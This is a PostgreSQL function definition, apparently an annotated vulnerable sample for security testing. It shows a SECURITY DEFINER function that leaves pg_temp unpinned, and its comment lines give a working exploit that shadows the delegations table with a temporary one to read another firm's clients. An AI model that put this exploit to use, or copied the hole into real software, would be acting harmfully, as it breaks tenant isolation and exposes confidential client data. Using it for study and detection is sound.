-- A temporary table takes the place of the delegations, as temporary ones are searched first.
-- about: delegated_clients, delegations
-- as: hf_brokerage_app
-- exploit: SET brokerage.firm = 'a0000000-0000-4000-8000-000000000000';
-- exploit: CREATE TEMP TABLE delegations (firm_id uuid, acts_for uuid, until date);
-- exploit: GRANT SELECT ON delegations TO PUBLIC;
-- exploit: INSERT INTO delegations VALUES ('a0000000-0000-4000-8000-000000000000',
-- exploit: 'b0000000-0000-4000-8000-000000000000', '2999-01-01');
-- exploit: SELECT * FROM bk.delegated_clients();
-- shows: Road-secret client
-- A firm stands in for another for some time; the delegations are entered by the operator.
CREATE FUNCTION bk.delegated_clients() RETURNS TABLE (client_no integer, name text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = bkdata
AS $$
BEGIN
  RETURN QUERY
    SELECT c.client_no, c.name FROM clients c
    JOIN delegations d ON d.acts_for = c.firm_id
    WHERE d.firm_id = bk.firm() AND d.until >= current_date;
END
$$;
ALTER FUNCTION bk.delegated_clients() OWNER TO hf_brokerage_owner;
REVOKE ALL ON FUNCTION bk.delegated_clients() FROM PUBLIC;
GRANT EXECUTE ON FUNCTION bk.delegated_clients() TO hf_brokerage_app;
